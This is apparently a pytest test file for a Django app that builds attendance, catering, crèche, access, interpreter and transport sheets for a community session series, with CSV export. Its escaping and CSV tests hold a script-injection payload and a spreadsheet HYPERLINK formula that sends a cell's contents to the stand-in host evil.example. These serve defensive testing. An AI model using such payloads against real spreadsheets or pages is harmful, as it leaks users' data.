"""Who is coming and what they need: the numbers by group, the sheets for the day, their pages and CSV.

Replies are made with services.replies.save_reply, as the reply page and staff recording them do.
"""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from events import services as events_services
from invitations.enums import Answer, Category, Channel, ReplySource, StaffRole
from invitations.models import Invitation, Reply
from invitations.services import replies, sheets
from tests.factories import InvitationFactory

YES, NO, MAYBE = Answer.YES, Answer.NO, Answer.MAYBE


@pytest.fixture
def facilitator_client(client, world):
    client.force_login(world.user("facilitator"))
    return client


def invite(world, name: str, *, category=Category.PARENT, organisation=None, **invitee) -> Invitation:
    return InvitationFactory(
        programme=world.programme,
        invitee__name=name,
        invitee__category=category,
        invitee__organisation=organisation or (world.group if category != Category.PARENT else world.school),
        invitee__staff_role=StaffRole.TEACHER if category == Category.SCHOOL_STAFF else "",
        **{f"invitee__{key}": value for key, value in invitee.items()},
    )


def answer(invitation: Invitation, answers: dict, **details) -> Reply:
    """Their answers and needs, which they agreed we may keep (without it, no need is kept)."""
    return replies.save_reply(
        invitation=invitation,
        answers={session.pk: value for session, value in answers.items()},
        details={"needs_agreed": True, **details},
    )


def sessions(world):
    return list(world.programme.sessions.order_by("order"))


@pytest.fixture
def mixed(world):
    """A mixed set of replies over the standard series (one all-day with lunch, three half-days), whose
    last session is then cancelled."""
    s1, s2, s3, s4 = sessions(world)
    amira = invite(world, "Amira Khan", phone="07700 900123")
    answer(
        amira,
        {s1: YES, s2: MAYBE, s3: NO},
        extra_places=2,
        childcare_children=2,
        childcare_ages="2, 4",
        food_needs="Halal",
        interpreter_language="Polish",
        transport_help=True,
    )
    ben = invite(world, "Ben Lowe")
    answer(ben, {s1: YES, s2: YES, s4: YES}, access_needs="Wheelchair user", interpreter_language=" polish ")
    invite(world, "Chloe Price")  # never replies
    dawn = invite(world, "Dawn Shaw")
    answer(dawn, {s1: YES, s2: YES}, food_needs="Vegan", childcare_children=3, transport_help=True)
    replies.opt_out(invitation=dawn)  # stopped our messages, but still coming: her answers count
    erin = invite(world, "Erin Teacher", category=Category.SCHOOL_STAFF)
    answer(erin, {s1: YES, s2: NO}, food_needs="No nuts", interpreter_language="Somali")
    fred = invite(world, "Fred Support", category=Category.SCHOOL_STAFF)
    answer(fred, {s1: MAYBE}, extra_places=1, childcare_children=1, access_needs="Hearing loop")
    gita = invite(world, "Gita Worker", category=Category.GROUP_WORKER)
    replies.save_reply(
        invitation=gita, answers={s2.pk: YES}, details={}, source=ReplySource.PHONE, recorded_by=None
    )
    hana = invite(world, "Hana Neighbour", category=Category.COMMUNITY)
    answer(hana, {s4: YES})  # only to the session that is then cancelled
    events_services.cancel_session(session=s4)
    return s1, s2, s3, s4


def by_group(row) -> dict[str, tuple[int, int, int, int]]:
    return {group.key: (group.coming, group.not_sure, group.cant, group.no_reply) for group in row.groups}


# --- The numbers by group ------------------------------------------------------------------------------


def test_attendance_counts_each_group_exactly(world, mixed):
    s1, s2, s3, s4 = mixed

    result = sheets.attendance(programme=world.programme)

    assert [row.session for row in result.sessions] == [s1, s2, s3]  # the cancelled session is absent
    first, second, third = result.sessions
    # (coming, not sure, can't, no reply). Amira brings two, counted as coming with the parents; Fred's
    # "not sure" brings one; Dawn asked for no more messages but is still coming; Gita replied, but not
    # about the first day.
    assert by_group(first) == {"parents": (5, 0, 0, 1), "school_staff": (1, 2, 0, 0), "groups": (0, 0, 0, 2)}
    assert by_group(second) == {"parents": (2, 3, 0, 1), "school_staff": (0, 0, 1, 1), "groups": (1, 0, 0, 1)}
    assert by_group(third) == {"parents": (0, 0, 1, 3), "school_staff": (0, 0, 0, 2), "groups": (0, 0, 0, 2)}
    assert (first.coming, first.not_sure, first.cant, first.no_reply) == (6, 2, 0, 3)


def test_attendance_weighs_those_coming_against_the_even_split(world, mixed):
    first, second, third = sheets.attendance(programme=world.programme).sessions

    # First day: 6 coming, 5 of them parents (Amira and her two, Ben, and Dawn, still coming), Erin for
    # the staff, nobody from the groups: 5/6 is 83%, 1/6 is 17%.
    assert [group.share for group in first.groups] == [83, 17, 0]
    assert [group.key for group in first.low] == ["school_staff", "groups"]
    assert first.aim == 2  # a third of six
    # Second day: Ben and Dawn for the parents, Gita for the groups: 2/3 is 67%, 1/3 is 33%.
    assert [group.share for group in second.groups] == [67, 0, 33]
    assert [group.key for group in second.low] == ["school_staff"]
    assert third.low == [] and third.coming == 0  # nobody coming is not "out of balance"


def test_attendance_totals_the_programme(world, mixed):
    total = sheets.attendance(programme=world.programme).total

    rows = {group.key: (group.invited, group.replied, group.no_reply, group.coming) for group in total.groups}
    # Dawn asked for no more messages after replying, so she is still invited, replied and coming: the
    # parents are Amira (and two), Ben, Chloe (no reply) and Dawn. Fred is only "not sure", so the staff
    # coming are Erin alone. Hana's only "yes" is to the cancelled session, so she is not coming to anything.
    assert rows == {"parents": (4, 3, 1, 5), "school_staff": (2, 2, 0, 1), "groups": (2, 2, 0, 1)}
    assert (total.invited, total.replied, total.no_reply, total.coming) == (8, 7, 1, 7)
    assert [group.key for group in total.low] == ["school_staff", "groups"]


def test_attendance_of_a_programme_without_replies(world):
    invite(world, "Amira Khan")

    result = sheets.attendance(programme=world.programme)

    assert len(result.sessions) == 4
    assert by_group(result.sessions[0]) == {
        "parents": (0, 0, 0, 1),
        "school_staff": (0, 0, 0, 0),
        "groups": (0, 0, 0, 0),
    }
    assert result.total.coming == 0 and result.total.low == []


def test_someone_who_asked_not_to_be_contacted_and_never_replied_is_not_counted(world):
    first = sessions(world)[0]
    invite(world, "Amira Khan")  # never replies: we are waiting for her
    iris = invite(world, "Iris Quiet")
    replies.opt_out(invitation=iris)  # never replies, and asked us to stop: nobody is waiting for her
    jo = invite(world, "Jo Busy")
    answer(jo, {first: NO})
    replies.opt_out(invitation=jo)  # replied first, so her answer still counts

    result = sheets.attendance(programme=world.programme)

    # (coming, not sure, can't, no reply): Jo can't come, Amira hasn't replied, Iris is in neither.
    assert by_group(result.sessions[0]) == {
        "parents": (0, 0, 1, 1),
        "school_staff": (0, 0, 0, 0),
        "groups": (0, 0, 0, 0),
    }
    parents = result.total.groups[0]
    # Invited: Amira and Jo, not Iris; replied: Jo; no reply: Amira.
    assert (parents.key, parents.invited, parents.replied, parents.no_reply, parents.coming) == (
        "parents",
        2,
        1,
        1,
        0,
    )
    assert (result.total.invited, result.total.replied, result.total.no_reply) == (2, 1, 1)


def test_attendance_is_not_confused_by_another_programme(world, mixed):
    other = events_services.create_programme(
        neighbourhood=world.neighbourhood,
        title="Another series",
        key_question="?",
        first_date=timezone.localdate() + timedelta(days=70),
        created_by=world.user("facilitator"),
    )
    stranger = InvitationFactory(
        programme=other, invitee__name="Stranger", invitee__organisation=world.school
    )
    answer(stranger, {session: YES for session in other.sessions.all()}, extra_places=3)

    first = sheets.attendance(programme=world.programme).sessions[0]

    assert first.coming == 6  # Amira and her two, Ben, Dawn and Erin: not the stranger and their three


# --- The sheets ----------------------------------------------------------------------------------------


def test_catering_counts_lunches_with_the_people_brought(world, mixed):
    s1, s2, *_ = mixed

    lunch = sheets.catering(session=s1)
    refreshments = sheets.catering(session=s2)

    # Amira and the two she brings, Ben, Dawn (she asked for no more messages, but is still coming) and
    # Erin; Fred and the one he brings are not sure.
    assert lunch.meal == "lunch" and (lunch.coming, lunch.not_sure) == (6, 2)
    assert lunch.children == 5  # Amira's two and Dawn's three, in the crèche: not in the lunches
    assert [(p.name, p.reply.food_needs, p.sure) for p in lunch.food] == [
        ("Amira Khan", "Halal", True),
        ("Dawn Shaw", "Vegan", True),
        ("Erin Teacher", "No nuts", True),
    ]
    assert [p.name for p in lunch.people] == [
        "Amira Khan",
        "Ben Lowe",
        "Dawn Shaw",
        "Erin Teacher",
        "Fred Support",
    ]
    # Ben, Dawn and Gita are coming; Amira and her two are not sure; Erin can't.
    assert refreshments.meal == "refreshments" and (refreshments.coming, refreshments.not_sure) == (3, 3)


def test_creche_lists_children_and_ages_per_parent(world, mixed):
    s1, s2, *_ = mixed

    first = sheets.creche(session=s1)
    second = sheets.creche(session=s2)

    assert [(r.person.name, r.children, r.ages, r.person.sure) for r in first.requests] == [
        ("Amira Khan", 2, [2, 4], True),
        ("Dawn Shaw", 3, [], True),
        ("Fred Support", 1, [], False),
    ]
    # Coming: Amira's two (aged 2 and 4) and Dawn's three, whose ages she didn't give; Fred's one is not sure.
    assert (first.children, first.children_not_sure, first.ages, first.ages_missing) == (
        5,
        1,
        [(2, 1), (4, 1)],
        3,
    )
    assert [(r.person.name, r.person.sure) for r in second.requests] == [
        ("Amira Khan", False),
        ("Dawn Shaw", True),
    ]
    assert (second.children, second.children_not_sure) == (3, 2)  # Dawn's three; Amira's two not sure


def test_access_lists_needs_with_names(world, mixed):
    s1, *_ = mixed

    sheet = sheets.access(session=s1)

    # Dawn is coming too, but told us of no access needs.
    assert [(p.name, p.reply.access_needs, p.answer) for p in sheet.people] == [
        ("Ben Lowe", "Wheelchair user", YES),
        ("Fred Support", "Hearing loop", MAYBE),
    ]


def test_interpreters_are_grouped_by_language_however_it_was_typed(world, mixed):
    s1, s2, s3 = mixed[:3]

    first = sheets.interpreters(session=s1)

    assert [(lang.name, [p.name for p in lang.people], lang.coming) for lang in first.languages] == [
        ("Polish", ["Amira Khan", "Ben Lowe"], 2),
        ("Somali", ["Erin Teacher"], 1),
    ]
    second = sheets.interpreters(session=s2)
    assert [(lang.name, lang.coming, lang.not_sure) for lang in second.languages] == [("Polish", 1, 1)]
    assert sheets.interpreters(session=s3).languages == []


def test_transport_lists_who_asked_for_help(world, mixed):
    s1, s2, s3 = mixed[:3]

    assert [(p.name, p.places) for p in sheets.transport(session=s1).people] == [
        ("Amira Khan", 3),
        ("Dawn Shaw", 1),
    ]
    assert sheets.transport(session=s1).places == 4  # Amira and her two, and Dawn
    assert [(p.name, p.sure) for p in sheets.transport(session=s2).people] == [
        ("Amira Khan", False),
        ("Dawn Shaw", True),
    ]
    assert sheets.transport(session=s2).places == 1  # only Dawn is sure
    # Amira can't come to the third, and Dawn gave no answer for it.
    assert sheets.transport(session=s3).people == []


# --- The pages -----------------------------------------------------------------------------------------


def sheets_url(world) -> str:
    return reverse("invitations:sheets", args=[world.programme.pk])


def sheet_url(world, session, kind: str, *, csv_file: bool = False) -> str:
    name = "invitations:sheet_csv" if csv_file else "invitations:sheet"
    return reverse(name, args=[world.programme.pk, session.pk, kind])


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_overview_shows_numbers_by_group_and_links_to_every_sheet(facilitator_client, world, mixed):
    s1, s2, s3, s4 = mixed

    response = facilitator_client.get(sheets_url(world))

    html = response.content.decode()
    assert response.status_code == 200
    assert f'id="session-{s1.pk}"' in html and f'id="session-{s4.pk}"' not in html
    assert "School staff: only 1 of 6 (17%)" in html  # the first day: Erin, of six coming
    assert "an even split is about 2 each" in html
    for session in (s1, s2, s3):
        for kind in sheets.SHEETS:
            assert sheet_url(world, session, kind) in html
            assert sheet_url(world, session, kind, csv_file=True) in html
    assert "Catering (lunch)" in html and "Catering (refreshments)" in html


def test_catering_page(facilitator_client, world, mixed):
    html = facilitator_client.get(sheet_url(world, mixed[0], "catering")).content.decode()

    assert "Lunch for <strong>6</strong> people" in html
    assert "And up to 2 more if everyone who is not sure yet comes." in html
    assert "It does not count the 5 children in the crèche." in html
    assert "Halal" in html and "No nuts" in html and "bringing 2 more people" in html
    assert "Vegan" in html  # Dawn asked for no more messages, but is still coming


def test_creche_page(facilitator_client, world, mixed):
    html = facilitator_client.get(sheet_url(world, mixed[0], "creche")).content.decode()

    assert "<strong>5</strong> children coming" in html  # Amira's two and Dawn's three
    assert "1 child aged 2, 1 child aged 4; 3 ages not given." in html  # Dawn gave no ages
    assert "And 1 more child if everyone who is not sure yet comes." in html
    assert '<td class="ages text-break">2, 4</td>' in html
    # Dawn's row: no ages written, so all three are missing.
    assert '<td class="ages text-break">— <span class="small">(3 ages not given)</span></td>' in html
    assert "1 age not given" in html  # Fred's child


def test_creche_page_warns_when_no_creche_is_planned(facilitator_client, world, mixed):
    s1 = mixed[0]
    s1.childcare = False
    s1.save()

    html = facilitator_client.get(sheet_url(world, s1, "creche")).content.decode()

    assert "No crèche is planned for this session, but these people asked for one." in html


def test_access_interpreters_and_transport_pages(facilitator_client, world, mixed):
    s1 = mixed[0]

    access = facilitator_client.get(sheet_url(world, s1, "access")).content.decode()
    interpreters = facilitator_client.get(sheet_url(world, s1, "interpreters")).content.decode()
    transport = facilitator_client.get(sheet_url(world, s1, "transport")).content.decode()

    assert "Wheelchair user" in access and "Hearing loop" in access and "Not sure yet" in access
    assert "step-free access" in access  # the venue's features, beside the needs
    assert '<th scope="row">Polish</th>\n          <td class="coming">2</td>' in interpreters
    assert "Somali" in interpreters
    assert "Amira Khan" in transport and "07700 900123" in transport
    assert "Dawn Shaw" in transport  # asked for no more messages, but is still coming and needs a lift
    assert "<strong>4</strong> places needed by people coming" in transport  # Amira and her two, and Dawn


def test_empty_sheets_say_so(facilitator_client, world):
    first = sessions(world)[0]
    expected = {
        "catering": "Nobody coming has told us about food needs.",
        "creche": "Nobody coming has asked for the crèche.",
        "access": "Nobody coming has told us about access needs.",
        "interpreters": "Nobody coming has asked for an interpreter.",
        "transport": "Nobody coming has asked for help with transport.",
    }
    for kind, text in expected.items():
        response = facilitator_client.get(sheet_url(world, first, kind))
        assert response.status_code == 200 and text in response.content.decode()


def test_free_text_is_escaped_on_every_page(facilitator_client, world):
    first = sessions(world)[0]
    script = "<script>alert('x')</script>"
    invitation = invite(world, f"Mallory {script}")
    answer(
        invitation,
        {first: YES},
        food_needs=f"<b>{script}</b>",
        access_needs=script,
        interpreter_language=script[:60],
        transport_help=True,
        childcare_children=1,
    )

    for url in [sheets_url(world)] + [sheet_url(world, first, kind) for kind in sheets.SHEETS]:
        html = facilitator_client.get(url).content.decode()
        assert "<script>alert" not in html and "<b><script>" not in html, url
    catering = facilitator_client.get(sheet_url(world, first, "catering")).content.decode()
    assert "&lt;b&gt;&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;&lt;/b&gt;" in catering


@pytest.mark.parametrize("kind", ["catering", "creche", "access", "interpreters", "transport"])
def test_sheet_of_another_programmes_session_is_not_found(facilitator_client, world, kind):
    other = events_services.create_programme(
        neighbourhood=world.neighbourhood,
        title="Another series",
        key_question="?",
        first_date=timezone.localdate() + timedelta(days=70),
        created_by=world.user("facilitator"),
    )
    session = other.sessions.first()

    assert facilitator_client.get(sheet_url(world, session, kind)).status_code == 404
    assert facilitator_client.get(sheet_url(world, session, kind, csv_file=True)).status_code == 404


def test_sheet_of_a_cancelled_session_or_an_unknown_kind_is_not_found(facilitator_client, world, mixed):
    cancelled = mixed[3]

    assert facilitator_client.get(sheet_url(world, cancelled, "catering")).status_code == 404
    assert facilitator_client.get(sheet_url(world, mixed[0], "lunches")).status_code == 404
    assert facilitator_client.get(sheet_url(world, mixed[0], "lunches", csv_file=True)).status_code == 404


def test_someone_elses_sheet_is_forbidden_before_anything_else(client, world, mixed):
    client.force_login(world.user("coordinator"))

    assert client.get(sheets_url(world)).status_code == 403
    assert client.get(sheet_url(world, mixed[3], "catering")).status_code == 403  # not a 404 hint


@pytest.mark.parametrize("role", ["facilitator", "coordinator"])
def test_list_and_programme_pages_link_to_the_sheets_for_the_facilitator_only(client, world, role):
    client.force_login(world.user(role))

    programme_page = client.get(world.programme.get_absolute_url()).content.decode()
    list_page = client.get(reverse("invitations:list", args=[world.programme.pk])).content.decode()

    shown = role == "facilitator"
    assert (f'href="{sheets_url(world)}"' in programme_page) is shown
    assert (f'href="{sheets_url(world)}"' in list_page) is shown


# --- The CSV files -------------------------------------------------------------------------------------


def test_csv_of_each_sheet(facilitator_client, world, mixed):
    s1 = mixed[0]

    def rows(kind):
        return csv_rows(facilitator_client.get(sheet_url(world, s1, kind, csv_file=True)))

    assert rows("catering") == [
        ["name", "group", "organisation", "answer", "places", "food needs"],
        ["Amira Khan", "Parents and carers", "Millbrook Primary", "Coming", "3", "Halal"],
        ["Ben Lowe", "Parents and carers", "Millbrook Primary", "Coming", "1", ""],
        ["Dawn Shaw", "Parents and carers", "Millbrook Primary", "Coming", "1", "Vegan"],
        ["Erin Teacher", "School staff", "Tenants' Association", "Coming", "1", "No nuts"],
        ["Fred Support", "School staff", "Tenants' Association", "Not sure yet", "2", ""],
    ]
    assert rows("creche") == [
        ["parent or carer", "answer", "children", "ages"],
        ["Amira Khan", "Coming", "2", "2, 4"],
        ["Dawn Shaw", "Coming", "3", ""],
        ["Fred Support", "Not sure yet", "1", ""],
    ]
    assert rows("access") == [
        ["name", "answer", "access needs"],
        ["Ben Lowe", "Coming", "Wheelchair user"],
        ["Fred Support", "Not sure yet", "Hearing loop"],
    ]
    assert rows("interpreters") == [
        ["language", "name", "answer"],
        ["Polish", "Amira Khan", "Coming"],
        ["Polish", "Ben Lowe", "Coming"],
        ["Somali", "Erin Teacher", "Coming"],
    ]
    transport = rows("transport")
    dawn = Invitation.objects.get(programme=world.programme, invitee__name="Dawn Shaw").invitee
    assert transport[0] == ["name", "answer", "places", "phone", "email"]
    assert transport[1][:4] == ["Amira Khan", "Coming", "3", "07700 900123"]
    assert transport[2:] == [["Dawn Shaw", "Coming", "1", "", dawn.email]]  # no phone: reach her by email


def test_csv_has_a_sensible_filename(facilitator_client, world):
    first = sessions(world)[0]

    response = facilitator_client.get(sheet_url(world, first, "creche", csv_file=True))

    assert response["Content-Disposition"] == (
        f'attachment; filename="creche-better-together-in-millbrook-session-1-{first.date:%Y-%m-%d}.csv"'
    )


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "@SUM(1)", "+1+1", "-2+3", "\t=1"],
)
def test_csv_never_writes_a_formula(facilitator_client, world, typed):
    first = sessions(world)[0]
    invitation = invite(world, typed if typed[0] != "\t" else "Tab Person", phone="+44 7700 900123")
    answer(
        invitation,
        {first: YES},
        food_needs=typed,
        access_needs=typed,
        interpreter_language=typed[:60],
        transport_help=True,
        childcare_children=1,
    )

    cells = []
    for kind in sheets.SHEETS:
        for row in csv_rows(facilitator_client.get(sheet_url(world, first, kind, csv_file=True))):
            cells.extend(row)

    assert "'" + typed in cells
    assert "'+44 7700 900123" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)


# --- Query counts --------------------------------------------------------------------------------------


def _everyone_replies(world, count: int, start: int = 0) -> None:
    s1, s2, *_ = sessions(world)
    categories = [Category.PARENT, Category.SCHOOL_STAFF, Category.GROUP_WORKER]
    for number in range(start, start + count):
        invitation = invite(world, f"Person {number:02d}", category=categories[number % 3])
        answer(
            invitation,
            {s1: YES, s2: [YES, NO, MAYBE][number % 3]},
            extra_places=number % 2,
            childcare_children=1,
            childcare_ages="3",
            food_needs="Vegetarian",
            access_needs="Step-free",
            interpreter_language=["Polish", "Urdu"][number % 2],
            transport_help=True,
        )


def test_query_counts_do_not_grow_with_the_replies(facilitator_client, world):
    first = sessions(world)[0]
    urls = [sheets_url(world)]
    for kind in sheets.SHEETS:
        urls += [sheet_url(world, first, kind), sheet_url(world, first, kind, csv_file=True)]

    _everyone_replies(world, 1)
    one = {}
    for url in urls:
        with CaptureQueriesContext(connection) as queries:
            assert facilitator_client.get(url).status_code == 200
        one[url] = len(queries)

    _everyone_replies(world, 19, start=1)
    twenty = {}
    for url in urls:
        with CaptureQueriesContext(connection) as queries:
            response = facilitator_client.get(url)
        twenty[url] = len(queries)
        assert response.status_code == 200

    assert sheets.catering(session=first).coming == 20 + 10  # everyone, and ten of them bring one
    assert twenty == one


def test_services_make_a_fixed_number_of_queries(world, django_assert_num_queries):
    _everyone_replies(world, 20)
    first = sessions(world)[0]

    with django_assert_num_queries(3):
        sheets.attendance(programme=world.programme)
    for function, _title in sheets.SHEETS.values():
        with django_assert_num_queries(1):
            function(session=first)


def test_only_email_invitees_get_contact_details_on_the_transport_sheet(facilitator_client, world):
    """A parent reached by letter through school has no email or phone: the sheet says how to reach them."""
    first = sessions(world)[0]
    invitation = invite(world, "Shabana Begum", email="", channel=Channel.LETTER)
    answer(invitation, {first: YES}, transport_help=True)

    html = facilitator_client.get(sheet_url(world, first, "transport")).content.decode()

    assert "Through Millbrook Primary" in html
